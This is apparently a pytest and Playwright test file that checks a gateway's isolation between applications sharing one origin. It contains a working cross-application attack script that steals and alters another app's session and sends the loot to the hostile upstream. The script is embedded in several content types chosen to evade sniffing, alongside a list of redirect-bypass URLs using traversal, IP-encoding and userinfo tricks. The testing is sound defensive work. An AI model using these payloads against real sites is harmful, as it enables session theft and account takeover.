"""Issue 12, row 1 (docs/reliability.md I1): an application's upstream cannot run script in the
gateway's origin, proven in headless Chromium through the real gateway.

Two applications share the gateway's origin: `a`, whose upstream is hostile, and `b`, where
the victim has a session. A's upstream answers a navigation under `/apps/a/agent/...` with a
document whose script (synchronous XHR, so everything happens before the load event) reads
`/apps/b/session`, PATCHes it with `X-CSRF: 1`, drives B's agent and reports the loot to A's
upstream. Every proxied answer carries `Content-Security-Policy: sandbox ...` (an opaque
origin, no script) and `X-Content-Type-Options: nosniff`, whatever the upstream sent, so none
of that happens, for every kind of document a browser would run script in. A control test runs
the same script where script may run (a plain gateway page) and sees it succeed, so the
assertions can tell. Event streams and JSON still work for `fetch`/`EventSource`.
"""

from __future__ import annotations

import dataclasses
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from urllib.parse import unquote

import pytest
from aiohttp import web
from aiohttp.test_utils import make_mocked_request
from playwright.async_api import Browser, BrowserContext, Page, Route
from playwright.async_api import Error as PlaywrightError
from pytest_aiohttp import AiohttpServer

from app.applications import AppConfig
from app.proxy.headers import PROXIED_CSP
from app.proxy.urls import redirect_leaves_application
from tests.conftest import make_settings, open_frontend_page
from tests.fake_upstream import (
    RunningGateway,
    ServedUpstream,
    run_gateway,
    serve_upstream,
    sse,
    start_sse,
)

pytestmark = pytest.mark.browser

VICTIM_DATA = {"secret": "b-only"}

# Synchronous XHR: the attack is over before the document's load event (no waiting needed).
ATTACK_JS = """
(function () {
  function call(method, url, body) {
    var x = new XMLHttpRequest();
    x.open(method, url, false);
    if (method !== 'GET') { x.setRequestHeader('X-CSRF', '1'); }
    if (body !== undefined) { x.setRequestHeader('Content-Type', 'application/json'); }
    x.send(body === undefined ? null : body);
    return x.responseText;
  }
  var loot = call('GET', '/apps/b/session');
  call('PATCH', '/apps/b/session', JSON.stringify({pwned: loot}));
  call('POST', '/apps/b/agent/drive', JSON.stringify({by: 'a'}));
  call('POST', '/apps/a/agent/report', JSON.stringify({loot: loot}));
})();
"""

# Every kind of answer a browser may render as a document that runs script: (content type or
# None for no Content-Type at all, body).
HOSTILE_DOCUMENTS: dict[str, tuple[str | None, str]] = {
    "text/html": (
        "text/html; charset=utf-8",
        f"<!doctype html><p id=m>x</p><script>{ATTACK_JS}</script>",
    ),
    "image/svg+xml": (
        "image/svg+xml",
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>//<![CDATA[\n{ATTACK_JS}\n//]]></script></svg>',
    ),
    "application/xhtml+xml": (
        "application/xhtml+xml",
        '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>//<![CDATA[\n'
        f"{ATTACK_JS}\n//]]></script></body></html>",
    ),
    "text/xml with an XHTML script": (
        "text/xml",
        '<?xml version="1.0"?><doc><script xmlns="http://www.w3.org/1999/xhtml">//<![CDATA[\n'
        f"{ATTACK_JS}\n//]]></script></doc>",
    ),
    "no content type (sniffed)": (None, f"<html><body><script>{ATTACK_JS}</script></body></html>"),
    "application/unknown (sniffed)": (
        "application/unknown",
        f"<html><body><script>{ATTACK_JS}</script></body></html>",
    ),
    "multipart/x-mixed-replace with an HTML part": (
        "multipart/x-mixed-replace; boundary=BOUNDARY",
        "--BOUNDARY\r\nContent-Type: text/html\r\n\r\n"
        f"<html><body><script>{ATTACK_JS}</script></body></html>\r\n--BOUNDARY--\r\n",
    ),
    "text/plain, text/html (Chromium takes the last)": (
        "text/plain, text/html",
        f"<html><body><script>{ATTACK_JS}</script></body></html>",
    ),
    "text/plain carrying HTML": (
        "text/plain",
        f"<html><body><script>{ATTACK_JS}</script></body></html>",
    ),
}


@dataclass
class TwoApps:
    gateway: RunningGateway
    hostile: ServedUpstream  # app `a`
    victim: ServedUpstream  # app `b`


@pytest.fixture
async def two_apps(aiohttp_server: AiohttpServer) -> AsyncIterator[TwoApps]:
    hostile = await serve_upstream(aiohttp_server)
    victim = await serve_upstream(aiohttp_server)
    apps = {
        app_id: AppConfig(app_id=app_id, upstream=str(served.base))
        for app_id, served in (("a", hostile), ("b", victim))
    }
    settings = dataclasses.replace(make_settings(), apps=apps)
    async with run_gateway(settings) as gateway:
        yield TwoApps(gateway=gateway, hostile=hostile, victim=victim)


async def victim_context(browser: Browser, apps: TwoApps) -> BrowserContext:
    """A browser context holding a session at `b` with `VICTIM_DATA`."""
    context = await browser.new_context(base_url=str(apps.gateway.url))
    resp = await context.request.patch(
        "/apps/b/session", data=json.dumps(VICTIM_DATA), headers={"X-CSRF": "1"}
    )
    assert resp.status == 200
    return context


async def data_of_b(context: BrowserContext) -> object:
    resp = await context.request.get("/apps/b/session")
    assert resp.status == 200
    return (await resp.json())["data"]


def serve_raw(upstream: ServedUpstream, path: str, content_type: str | None, body: str) -> None:
    """A's upstream answers `path` with exactly this content type, or with none at all
    (aiohttp's server would add `application/octet-stream`, so that answer is written raw)."""
    payload = body.encode()

    async def typed(request: web.Request) -> web.StreamResponse:
        return web.Response(body=payload, headers={"Content-Type": content_type or ""})

    async def untyped(request: web.Request) -> web.StreamResponse:
        transport = request.transport
        assert transport is not None
        head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(payload)}\r\nConnection: close\r\n\r\n"
        transport.write(head.encode() + payload)
        transport.close()
        return web.Response()  # never sent: the connection is closed

    upstream.fake.on(path, untyped if content_type is None else typed)


async def navigate(page: Page, url: str) -> bool:
    """Open `url` in `page`: True when it became a document, False when it was a download."""
    try:
        response = await page.goto(url)
    except PlaywrightError as err:
        assert "Download is starting" in str(err), err
        return False
    assert response is not None and response.status == 200
    return True


def without_headers(*names: str) -> Callable[[Route], Awaitable[None]]:
    """A route handler: the gateway's real answer, minus the response headers `names`."""

    async def handler(route: Route) -> None:
        response = await route.fetch()
        headers = {k: v for k, v in response.headers.items() if k.lower() not in names}
        await route.fulfill(response=response, headers=headers)

    return handler


def attack_reached(apps: TwoApps) -> list[str]:
    """What of the attack reached an upstream: B driven, or loot reported to A."""
    reached = [f"b {s.method} {s.raw_path_qs}" for s in apps.victim.fake.seen]
    reached += [
        f"a {s.method} {s.raw_path_qs}" for s in apps.hostile.fake.seen if "report" in s.raw_path_qs
    ]
    return reached


@pytest.mark.parametrize("kind", HOSTILE_DOCUMENTS)
async def test_I1_an_upstream_document_cannot_read_or_change_another_application(
    browser: Browser, two_apps: TwoApps, kind: str
) -> None:
    """Each layer alone suffices: as the gateway answers (a page type is a download), and with
    its `Content-Disposition` removed on the way (a browser that ignored it), where the
    document renders and the sandbox alone stops its script."""
    content_type, body = HOSTILE_DOCUMENTS[kind]
    serve_raw(two_apps.hostile, "/v1/evil", content_type, body)
    url = f"{two_apps.gateway.url}/apps/a/agent/evil"
    context = await victim_context(browser, two_apps)
    page = await context.new_page()
    try:
        await navigate(page, url)
        assert attack_reached(two_apps) == []
        await page.route(url, without_headers("content-disposition"))
        rendered = await navigate(page, url)
        # Still downloads: no type (aiohttp's octet-stream) and an unknown type Chromium may
        # not sniff (`nosniff`); every other kind renders here, and the sandbox holds.
        assert rendered == (content_type not in (None, "application/unknown"))
        assert attack_reached(two_apps) == []
        assert await data_of_b(context) == VICTIM_DATA
    finally:
        await context.close()
    # What made it inert, whatever the upstream sent (no type: aiohttp's octet-stream).
    async with two_apps.gateway.client.get("/apps/a/agent/evil") as resp:
        assert resp.status == 200
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        assert resp.headers["Content-Security-Policy"] == PROXIED_CSP
        assert resp.headers["Content-Type"] == (content_type or "application/octet-stream")
        page_type = content_type not in (None, "text/plain")
        assert resp.headers.get("Content-Disposition") == ("attachment" if page_type else None)
        assert await resp.text() == body


async def test_I1_control_without_the_gateways_headers_the_document_runs_its_script(
    browser: Browser, two_apps: TwoApps
) -> None:
    """Proves the route above hands Chromium a live document: with the policy, `nosniff` and
    `Content-Disposition` removed on the way, the same HTML answer runs the attack."""
    content_type, body = HOSTILE_DOCUMENTS["text/html"]
    serve_raw(two_apps.hostile, "/v1/evil", content_type, body)
    url = f"{two_apps.gateway.url}/apps/a/agent/evil"
    context = await victim_context(browser, two_apps)
    page = await context.new_page()
    try:
        await page.route(
            url,
            without_headers(
                "content-disposition", "content-security-policy", "x-content-type-options"
            ),
        )
        assert await navigate(page, url)
        assert attack_reached(two_apps) == ["b POST /v1/drive", "a POST /v1/report"]
        assert await data_of_b(context) != VICTIM_DATA
    finally:
        await context.close()


async def test_I1_control_the_same_script_succeeds_where_script_may_run(
    browser: Browser, two_apps: TwoApps
) -> None:
    """Proves the assertions above can fail: on a page of the gateway's origin without the
    sandbox (a frontend served beside it), the attack script reads and changes B and drives
    B's agent."""
    context = await victim_context(browser, two_apps)
    page = await context.new_page()
    try:
        await open_frontend_page(page, str(two_apps.gateway.url))
        await page.evaluate(ATTACK_JS)
        assert attack_reached(two_apps) == ["b POST /v1/drive", "a POST /v1/report"]
        stolen = json.loads(json.loads(two_apps.hostile.fake.seen[-1].body or b"{}")["loot"])
        assert stolen == {"data": VICTIM_DATA}
        assert await data_of_b(context) != VICTIM_DATA
    finally:
        await context.close()


async def test_I1_event_streams_and_json_still_work_for_fetch_and_eventsource(
    browser: Browser, two_apps: TwoApps
) -> None:
    async def stream(request: web.Request) -> web.StreamResponse:
        response = await start_sse(request)
        for n in range(3):
            await response.write(sse("token", {"n": n}))
        await response.write(sse("done", {}))
        return response

    two_apps.hostile.fake.on("/v1/stream", stream)
    context = await browser.new_context(base_url=str(two_apps.gateway.url))
    page = await context.new_page()
    try:
        await open_frontend_page(page, str(two_apps.gateway.url))
        got = await page.evaluate(
            """async () => {
                const json = await (await fetch('/apps/a/agent/echo')).json();
                const events = await new Promise((resolve, reject) => {
                    const seen = [];
                    const source = new EventSource('/apps/a/agent/stream');
                    source.addEventListener('token', (e) => seen.push(JSON.parse(e.data).n));
                    source.addEventListener('done', () => { source.close(); resolve(seen); });
                    source.onerror = () => { source.close(); reject(new Error('stream error')); };
                });
                return {json, events};
            }"""
        )
        assert got["json"]["path"] == "/v1/echo"
        assert got["events"] == [0, 1, 2]
    finally:
        await context.close()


async def test_I2_a_redirect_cannot_replay_a_frontends_write_on_another_application(
    browser: Browser, aiohttp_server: AiohttpServer
) -> None:
    """One frontend (its own origin, same site) serves applications `a` and `b`, allowed by
    both. Its `fetch` POSTs a chat message with `X-CSRF: 1` to `a`; A's upstream answers
    `307 Location: /apps/b/agent/chat`. A browser follows a 307 with the same method, body and
    headers, and the cookies of the new path: B's agent would get the message in the user's B
    conversation. The gateway refuses the redirect instead (502), nothing reaches B."""
    hostile = await serve_upstream(aiohttp_server)
    victim = await serve_upstream(aiohttp_server)

    async def redirect(request: web.Request) -> web.Response:
        return web.Response(status=307, headers={"Location": "/apps/b/agent/chat"})

    hostile.fake.on("/v1/chat", redirect)
    frontend_app = web.Application()

    async def page(request: web.Request) -> web.Response:
        return web.Response(text="<!doctype html><title>frontend</title>", content_type="text/html")

    frontend_app.router.add_get("/", page)
    frontend = await aiohttp_server(frontend_app)
    origin = str(frontend.make_url("")).rstrip("/")
    apps = {
        app_id: AppConfig(
            app_id=app_id, upstream=str(served.base), allowed_origins=frozenset({origin})
        )
        for app_id, served in (("a", hostile), ("b", victim))
    }
    settings = dataclasses.replace(make_settings(), apps=apps)
    async with run_gateway(settings) as gateway:
        context = await browser.new_context()
        try:
            # The user has a session at `b` (its conversation is what the attack would use).
            resp = await context.request.patch(
                f"{gateway.url}/apps/b/session",
                data=json.dumps(VICTIM_DATA),
                headers={"X-CSRF": "1"},
            )
            assert resp.status == 200
            page_ = await context.new_page()
            await page_.goto(origin + "/")
            status = await page_.evaluate(
                """async (url) => {
                    const r = await fetch(url, {
                        method: 'POST', credentials: 'include',
                        headers: {'X-CSRF': '1', 'Content-Type': 'application/json'},
                        body: JSON.stringify({message: 'meant for a'}),
                    });
                    return r.status;
                }""",
                f"{gateway.url}/apps/a/agent/chat",
            )
            assert [s.raw_path_qs for s in hostile.fake.seen] == ["/v1/chat"]
            assert [(s.method, s.raw_path_qs) for s in victim.fake.seen] == []
            assert status == 502
        finally:
            await context.close()


# Locations a hostile upstream might try, to reach another application on this host while the
# gateway's URL library reads them as harmless. Chromium's own URL parser is the oracle.
LOCATION_CORPUS = [
    "jobs/1",
    "?page=2",
    "#x",
    "/apps/shop/agent/ok",
    "/apps/other/agent/chat",
    "../../other/agent/chat",
    "../../../apps/other/agent/chat",
    "/apps/shop/../other/agent",
    "/apps/shop/agent/%2e%2e/%2e%2e/other",
    "/apps/shop/agent/.%2e/.%2e/other",
    "/apps/shop/agent/%2E./%2E./other",
    "/apps/shop/agent/..%2f..%2fother",
    "/apps/shop/agent/..\\..\\other",
    "/apps/shop/agent/.\t./.\t./other",
    "/apps/shop/agent/..;/..;/other",
    "/apps//other/agent",
    "/./apps/other/agent",
    "/apps/%73hop/agent/x",
    "/apps/other%2fagent",
    "//127.0.0.1/apps/other/agent",
    "\\\\127.0.0.1/apps/other/agent",
    "/\\127.0.0.1/apps/other/agent",
    "http://127.0.0.1/apps/other/agent",
    "http://127.0.0.1:9/apps/other/agent",
    "HTTP://127.0.0.1./apps/other/agent",
    "http://0x7f.1/apps/other/agent",
    "http://0x7f000001/apps/other/agent",
    "http://2130706433/apps/other/agent",
    "http://0177.0.0.1/apps/other/agent",
    "http://127.1/apps/other/agent",
    "http://127.0.1/apps/other/agent",
    "http://%31%32%37.0.0.1/apps/other/agent",
    "http://\uff11\uff12\uff17\uff0e\uff10\uff0e\uff10\uff0e\uff11/apps/other/agent",
    "http://127\u30020\u30020\u30021/apps/other/agent",
    "http://[::ffff:127.0.0.1]/apps/other/agent",
    "http://evil.example@127.0.0.1/apps/other/agent",
    "http://a@b@127.0.0.1/apps/other/agent",
    "http://127.0.0.1#@evil.example/apps/other",
    "http://evil.example#@127.0.0.1/apps/other",
    "http://127.0.0.1?@evil.example/apps/other",
    "http:/apps/other/agent",
    "http:127.0.0.1/apps/other/agent",
    "https:/apps/other/agent",
    "https://evil.example/apps/other/agent",
    "//evil.example/x",
    "javascript:alert(1)",
    "data:text/html,<script>1</script>",
    " /apps/other/agent",
    "/apps/other/agent ",
    "/apps/shop/agent/ok\x0b/../../../other",
    "/apps/shop/agent/%00/../../other",
]


async def test_I2_the_redirect_check_reads_locations_as_chromium_does(browser: Browser) -> None:
    """For every spelling, where Chromium would go: if that is this host outside `/apps/shop/`,
    the gateway must refuse the redirect (it may refuse more)."""
    base = "http://127.0.0.1:8080/apps/shop/agent/go"
    request = make_mocked_request("GET", "/apps/shop/agent/go", headers={"Host": "127.0.0.1:8080"})
    app = AppConfig(app_id="shop", upstream="http://upstream.invalid")
    settings = make_settings()
    page = await browser.new_page()
    try:
        escaped = []
        for location in LOCATION_CORPUS:
            resolved = await page.evaluate(
                """([location, base]) => {
                    try {
                        const u = new URL(location, base);
                        return [u.protocol, u.hostname, u.pathname];
                    } catch (e) { return null; }
                }""",
                [location, base],
            )
            leaves = redirect_leaves_application([location], request, app, settings)
            if resolved is None or resolved[0] not in ("http:", "https:"):
                continue  # not a URL a browser would follow to this host
            _, host, path = resolved
            # The gateway routes on the decoded path (`/apps/%73hop/` is `shop`).
            if host == "127.0.0.1" and not unquote(path).startswith("/apps/shop/") and not leaves:
                escaped.append((location, host, path))
        assert escaped == []
    finally:
        await page.close()
